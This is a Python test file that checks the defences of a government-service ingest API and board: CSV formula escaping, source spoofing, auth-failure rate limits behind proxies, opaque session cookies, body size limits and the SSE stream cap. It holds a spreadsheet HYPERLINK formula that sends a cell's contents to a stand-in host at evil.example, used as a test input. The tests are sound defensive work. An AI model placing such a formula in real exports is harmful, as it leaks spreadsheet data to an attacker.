"""Hostile clients against the real services (issue 20, items 8–11): a bad client behind a
shared gateway, a trusted proxy, fake sources, the board's sign-in (session, cookie,
streamed body limit, failures), SSE clients beyond the cap, formulas in the public CSV —
against a real Redis (and Kafka where a 202 needs it), HTTP through the ASGI apps or a
uvicorn server."""

from __future__ import annotations

import csv
import io
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import orjson
import redis
import uvicorn
from fastapi.testclient import TestClient

from devstack.ports import free_port
from services.api.app import create_app as create_api
from services.ingest.app import create_app as create_ingest
from shared.domain.catalog import AgencyCatalog, load_agencies
from shared.platform.config import Settings
from shared.platform.tokens import TokenSpec, digest
from tests.conftest import redis_db
from tests.factories import received

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def fresh_db(redis_server: object, db: int) -> str:
    url = redis_db(redis_server, db)  # type: ignore[arg-type]
    redis.Redis.from_url(url).flushdb()
    return url


def test_public_csv_writes_a_formula_name_as_text(redis_server) -> None:
    settings = Settings(redis_url=fresh_db(redis_server, 12), catalog_log_enabled=False)
    # the packaged catalog with a formula as the name of a unit on the public page (valid
    # in the latest closed month)
    code = "H01.187"
    catalog = AgencyCatalog(
        [
            a.model_copy(update={"name": FORMULA}) if a.agency_code == code else a
            for a in load_agencies().agencies.values()
        ]
    ).to_csv_text()
    with TestClient(create_api(settings)) as api:
        put = api.put(
            "/v1/catalog/agencies", content=catalog.encode(), headers=bearer("dev-admin-token")
        )
        assert put.status_code == 200, put.text
        resp = api.get("/public/ket-qua.csv")
        assert resp.status_code == 200
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    (row,) = [r for r in rows if r[3] == code]
    assert row[4] == "'" + FORMULA  # shown as text, never run
    assert not any(cell.startswith(("=", "+", "@")) for r in rows for cell in r)


def test_an_issued_token_without_sources_cannot_invent_sources(redis_server) -> None:
    token = "tok-cong-dvc-tinh-0001"
    spec = TokenSpec(name="cong-dvc", sha256=digest(token), scopes=["ingest"], agencies=["*"])
    settings = Settings(
        kafka_bootstrap="127.0.0.1:1",
        tokens=[spec],
        redis_url=redis_db(redis_server, 12),
        ingest_produce_timeout_s=1,
    )
    headers = {"content-type": "application/json", **bearer(token)}
    with TestClient(create_ingest(settings)) as ingest:
        fake = [received(agency="so-y-te", dossier=f"f{i}", source=f"gia-{i}") for i in range(3)]
        resp = ingest.post("/v1/events", content=orjson.dumps(fake), headers=headers)
        assert resp.status_code == 403
        assert {e["code"] for e in resp.json()["errors"]} == {"forbidden_source"}
        # its own name, or no source (stamped with its name), passes authorisation (the
        # broker is down here: 503)
        own = [received(agency="so-y-te", source="cong-dvc"), received(agency="so-y-te")]
        assert (
            ingest.post("/v1/events", content=orjson.dumps(own), headers=headers).status_code == 503
        )


GATEWAY_TOKEN = "tok-his-so-y-te-0001"  # a valid source behind the province's gateway
GATEWAY_SOURCE = TokenSpec(
    name="his-so-y-te",
    sha256=digest(GATEWAY_TOKEN),
    scopes=["ingest"],
    sources=["his-so-y-te"],
    agencies=["so-y-te"],
)


def test_one_bad_client_behind_a_gateway_does_not_lock_out_a_valid_token(isolated) -> None:
    """Issue 20, item 8: every client of the gateway has the gateway's address."""
    settings = Settings(
        kafka_bootstrap=isolated["bootstrap"],
        topics=isolated["topics"],
        redis_url=isolated["redis_url"],
        tokens=[GATEWAY_SOURCE],
        auth_failures_per_minute=10,
    )
    events = [received(agency="so-y-te", dossier=f"hs-{i}") for i in range(20)]
    headers = {"content-type": "application/json"}
    with TestClient(create_ingest(settings), client=("10.20.0.1", 40000)) as ingest:
        # a misconfigured client behind the same gateway: the same wrong token, again and again
        bad = {**headers, **bearer("tok-his-cu-da-thu-hoi")}
        codes = [
            ingest.post("/v1/events", content=b"[]", headers=bad).status_code for _ in range(12)
        ]
        assert codes[:10] == [403] * 10 and codes[10:] == [429, 429]
        ok = ingest.post(
            "/v1/events", content=orjson.dumps(events), headers={**headers, **bearer(GATEWAY_TOKEN)}
        )
        assert ok.status_code == 202, ok.text
        assert ok.json()["accepted"] == 20


def test_a_trusted_proxy_gives_the_client_address(isolated) -> None:
    settings = Settings(
        kafka_bootstrap=isolated["bootstrap"],
        topics=isolated["topics"],
        redis_url=isolated["redis_url"],
        tokens=[GATEWAY_SOURCE],
        auth_failures_per_minute=5,
        trusted_proxies=["10.20.0.0/24"],
    )
    body = orjson.dumps([received(agency="so-y-te", dossier="hs-proxy")])
    headers = {"content-type": "application/json"}

    def via(address: str) -> dict[str, str]:
        return {**headers, "X-Forwarded-For": address}

    with TestClient(create_ingest(settings), client=("10.20.0.1", 40000)) as proxied:
        for i in range(5):  # someone guessing, behind the proxy
            guess = proxied.post(
                "/v1/events", content=body, headers={**via("203.0.113.7"), **bearer(f"g{i}")}
            )
            assert guess.status_code == 403
        # the guesser's address is refused, a right token included …
        right = {**via("203.0.113.7"), **bearer(GATEWAY_TOKEN)}
        assert proxied.post("/v1/events", content=body, headers=right).status_code == 429
        # … the proxy's other clients are not
        other = {**via("203.0.113.8"), **bearer(GATEWAY_TOKEN)}
        assert proxied.post("/v1/events", content=body, headers=other).status_code == 202
    # a peer that is not the proxy cannot pick its address with the header
    with TestClient(create_ingest(settings), client=("198.51.100.9", 40000)) as direct:
        for i in range(5):
            spoofed = {**via(f"192.0.2.{i}"), **bearer(f"s{i}")}
            assert direct.post("/v1/events", content=body, headers=spoofed).status_code == 403
        assert (
            direct.post(
                "/v1/events", content=body, headers={**via("192.0.2.99"), **bearer("s9")}
            ).status_code
            == 429
        )


# -- the board's sign-in -----------------------------------------------------------------


def board_settings(redis_server: object, **extra: object) -> Settings:
    return Settings(
        redis_url=fresh_db(redis_server, 13),
        catalog_log_enabled=False,
        **extra,  # type: ignore[arg-type]
    )


def sign_in(client: TestClient, token: str, **headers: str) -> httpx.Response:
    return client.post(  # type: ignore[no-any-return]
        "/board/login", data={"token": token}, headers=headers, follow_redirects=False
    )


def test_the_board_cookie_is_an_opaque_server_side_session(redis_server) -> None:
    settings = board_settings(redis_server, board_session_ttl_s=600)
    store = redis.Redis.from_url(settings.redis_url, decode_responses=False)
    with TestClient(create_api(settings)) as api:
        resp = sign_in(api, "dev-admin-token")
        assert resp.status_code == 303
        header = resp.headers["set-cookie"]
        assert "dev-admin-token" not in header and digest("dev-admin-token") not in header
        session = resp.cookies["egov_board"]
        assert len(session) >= 40
        assert "max-age=600" in header.lower() and "httponly" in header.lower()
        (key,) = store.keys("board:session:*")
        assert key == ("board:session:" + digest(session)).encode()  # the id itself not kept
        assert 0 < store.ttl(key) <= 600
        assert all(b"dev-admin-token" not in (store.get(k) or b"") for k in store.keys("*"))
        assert api.get("/board", follow_redirects=False).status_code == 200
        # the raw token as a cookie (what the cookie used to hold) is no longer a session
        api.cookies.set("egov_board", "dev-read-token", path="/board")
        assert api.get("/board", follow_redirects=False).status_code == 303
        # logging out ends the session on the server: the old cookie is worth nothing
        api.cookies.set("egov_board", session, path="/board")
        assert api.post("/board/logout", follow_redirects=False).status_code == 303
        assert store.keys("board:session:*") == []
        api.cookies.set("egov_board", session, path="/board")
        assert api.get("/board", follow_redirects=False).status_code == 303
        assert api.get("/board/events").status_code == 401


def test_the_board_cookie_is_secure_behind_a_trusted_tls_proxy(redis_server) -> None:
    settings = board_settings(redis_server, trusted_proxies=["10.20.0.1"])
    tls = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.5"}
    with TestClient(create_api(settings), client=("10.20.0.1", 40000)) as proxied:
        header = sign_in(proxied, "dev-read-token", **tls).headers["set-cookie"]
        assert "secure" in header.lower()
    with TestClient(create_api(settings), client=("198.51.100.9", 40000)) as direct:
        header = sign_in(direct, "dev-read-token", **tls).headers["set-cookie"]
        assert "secure" not in header.lower()  # anyone can send the header: not believed


def test_forged_board_cookies_count_as_failed_authentications(redis_server) -> None:
    settings = board_settings(redis_server, auth_failures_per_minute=3)
    with TestClient(create_api(settings), client=("10.20.0.7", 40000)) as api:
        assert sign_in(api, "dev-read-token").status_code == 303
        mine = api.cookies["egov_board"]
        codes = []
        for i in range(4):
            api.cookies.set("egov_board", f"doan-{i}-" + "x" * 40, path="/board")
            codes.append(api.get("/board/events").status_code)
        assert codes == [401, 401, 401, 429]
        api.cookies.set("egov_board", "doan-9-" + "x" * 40, path="/board")
        limited = api.get("/board", follow_redirects=False)
        assert limited.status_code == 429 and int(limited.headers["Retry-After"]) >= 1
        # the session already in use from this address keeps working
        api.cookies.set("egov_board", mine, path="/board")
        assert api.get("/board", follow_redirects=False).status_code == 200
        # and wrong tokens at the sign-in form count the same way
        wrong = [sign_in(api, f"doan-ma-{i}").status_code for i in range(2)]
        assert wrong == [429, 429]


@contextmanager
def serving(app: Any) -> Iterator[str]:
    """``app`` served by uvicorn (httptools, as deployed) on a free loopback port."""
    config = uvicorn.Config(
        app, host="127.0.0.1", port=free_port(), log_level="warning", http="httptools"
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert thread.is_alive() and time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{config.port}"
    finally:
        server.should_exit = True
        thread.join(15)


def test_chunked_uploads_are_cut_at_the_limit_by_a_real_server(redis_server) -> None:
    settings = board_settings(redis_server, api_max_body_bytes=1000)
    sent = 0

    def chunks(total: int) -> Iterator[bytes]:
        nonlocal sent
        yield b"token="
        while sent < total:
            sent += 1024
            yield b"x" * 1024

    with serving(create_api(settings)) as base, httpx.Client(base_url=base, timeout=30) as http:
        login = http.post(
            "/board/login",
            content=chunks(64 * 1024),
            headers={"content-type": "application/x-www-form-urlencoded"},
        )
        assert login.status_code == 413, login.text
        assert login.json() == {
            "error": "body_too_large",
            "field": "body",
            "message": "request body exceeds 4096 bytes",
            "message_vi": "Nội dung yêu cầu vượt quá 4096 byte",
            "errors": [],
        }
        sent = 0
        api = http.post(
            "/v1/reconciliations",
            content=chunks(200 * 1024),
            headers={"content-type": "application/json", **bearer("dev-admin-token")},
        )
        assert api.status_code == 413 and api.json()["error"] == "body_too_large"
        assert http.get("/healthz").status_code == 200  # the server is still there


def test_live_board_streams_beyond_the_cap_get_503(redis_server) -> None:
    settings = board_settings(redis_server, board_max_streams=2, board_poll_s=0.2)
    with serving(create_api(settings)) as base, httpx.Client(base_url=base, timeout=30) as http:
        http.post("/board/login", data={"token": "dev-read-token"}, follow_redirects=False)
        assert "egov_board" in http.cookies
        with (
            http.stream("GET", "/board/events") as first,
            http.stream("GET", "/board/events") as second,
        ):
            lines = [first.iter_lines(), second.iter_lines()]  # kept: reading goes on
            for stream, read in zip((first, second), lines, strict=True):
                assert stream.status_code == 200
                assert next(read).startswith("retry:")
            third = http.get("/board/events")
            assert third.status_code == 503 and int(third.headers["Retry-After"]) > 0
            assert third.json()["error"] == "too_many_streams"
        # the slots come back when the streams end
        deadline = time.monotonic() + 10
        while (status := http.get("/board/events", timeout=30).status_code) == 503:
            assert time.monotonic() < deadline
            time.sleep(0.2)
        assert status == 200
